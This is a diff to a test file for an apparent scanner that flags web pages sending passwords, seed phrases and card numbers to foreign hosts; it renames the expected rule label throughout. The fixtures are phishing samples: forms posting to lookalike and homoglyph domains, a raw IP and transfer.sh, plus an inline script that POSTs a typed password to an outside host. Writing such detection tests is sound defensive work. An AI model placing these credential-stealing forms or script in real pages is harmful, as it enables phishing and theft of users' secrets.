@@ -5,19 +5,19 @@ const form = (action: string, field = '<input type="password" name="p">', title 
   `<title>${title}</title>\n<form method="post" action="${action}">\n${field}\n</form>`;
 
 test.each([
-  [form("https://accounts.drive-sync.work/s"), "warn sign_in_form:3"],
-  [form("https://accounts.drive-sync.work/s", undefined, "Sign in – Google Accounts"), "block sign_in_form:3"],
-  [form("http://203.0.113.9/s"), "block sign_in_form:3"],
-  [form("https://transfer.sh/s"), "block sign_in_form:3"],
-  [form("//accounts.drive-sync.work/s", '<input name="seed_phrase">', "MetaMask"), "block sign_in_form:3"],
-  [form("https://pay.fee-desk.work/s", '<input autocomplete="cc-number">'), "warn sign_in_form:3"],
+  [form("https://accounts.drive-sync.work/s"), "warn credential-form:3"],
+  [form("https://accounts.drive-sync.work/s", undefined, "Sign in – Google Accounts"), "block credential-form:3"],
+  [form("http://203.0.113.9/s"), "block credential-form:3"],
+  [form("https://transfer.sh/s"), "block credential-form:3"],
+  [form("//accounts.drive-sync.work/s", '<input name="seed_phrase">', "MetaMask"), "block credential-form:3"],
+  [form("https://pay.fee-desk.work/s", '<input autocomplete="cc-number">'), "warn credential-form:3"],
   [
     form("https://api.fee-desk.work/s", '<textarea placeholder="Your recovery phrase"></textarea>'),
-    "warn sign_in_form:3",
+    "warn credential-form:3",
   ],
   [
     "<h1>Sign in to GitHub</h1><input type=password id=p><script>\nfunction go() { fetch('https://gh-login.work/s', { method: 'POST', body: document.getElementById('p').value }) }\n</script>",
-    "block sign_in_form:1",
+    "block credential-form:1",
   ],
 ])("finds a page that sends secrets to a stranger: %s", async (text, expected) => {
   expect(await found("assets/signin.html", text)).toStrictEqual([expected]);
@@ -38,7 +38,7 @@ test.each([
 });
 
 test("blocks a page that sends secrets to a name that passes for another", async () => {
-  expect(await found("assets/signin.html", form("https://paypaI.com/signin"))).toContain("block sign_in_form:3");
+  expect(await found("assets/signin.html", form("https://paypaI.com/signin"))).toContain("block credential-form:3");
 });
 
 test("knows the service that the package is for", async () => {
